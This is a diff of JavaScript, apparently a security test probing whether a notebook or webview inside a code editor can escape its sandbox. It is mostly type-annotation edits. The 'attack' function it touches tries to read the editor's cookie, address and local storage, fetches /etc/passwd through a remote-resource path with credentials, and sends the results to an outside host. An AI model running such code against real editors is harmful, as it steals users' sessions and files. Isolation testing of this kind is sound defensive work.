@@ -207,15 +207,15 @@ async function attack(elsewhere, nowhere, colour) {
       tried[name] = `refused: ${error.name}`;
     }
   };
-  await attempt("the editor's cookie", () => window.top.document.cookie);
-  await attempt("the editor's address", () => window.top.location.href);
-  await attempt("the editor's storage", () => JSON.stringify(window.top.localStorage));
+  await attempt("the editor's cookie", () => window.top?.document.cookie);
+  await attempt("the editor's address", () => window.top?.location.href);
+  await attempt("the editor's storage", () => JSON.stringify(window.top?.localStorage));
   // Of its own origin it may have these; nothing of the editor's is in them.
   await attempt("own cookie", () => document.cookie);
   const editor = window.location.ancestorOrigins?.[window.location.ancestorOrigins.length - 1];
   const file = "/vscode-remote-resource?path=/etc/passwd";
   for (const base of [editor, location.origin]) {
-    const options = { credentials: "include" };
+    const options = /** @type {const} */ ({ credentials: "include" });
     await attempt(`file of ${base}`, async () => (await fetch(base + file, options)).text());
   }
   const leak = encodeURIComponent(JSON.stringify(tried));
@@ -258,12 +258,12 @@ async function attack(elsewhere, nowhere, colour) {
   await attempt("script", () => import(`${elsewhere}/script.js?${leak}`));
   await attempt("window", () => window.open(`${elsewhere}/window?${leak}`));
   await attempt("top", () => {
-    window.top.location.href = `${elsewhere}/top?${leak}`;
+    /** @type {Window} */ (window.top).location.href = `${elsewhere}/top?${leak}`;
   });
-  const shown = document.getElementById("tried");
+  const shown = /** @type {HTMLElement} */ (document.getElementById("tried"));
   shown.textContent = JSON.stringify(tried);
   // For who can only look at the screen.
-  shown.style = `background: rgb(${colour}); height: 300px; overflow: hidden`;
+  shown.style.cssText = `background: rgb(${colour}); height: 300px; overflow: hidden`;
 }
 
 /** What the notebook's page does last, as it is gone then: it goes elsewhere with what it knows. */
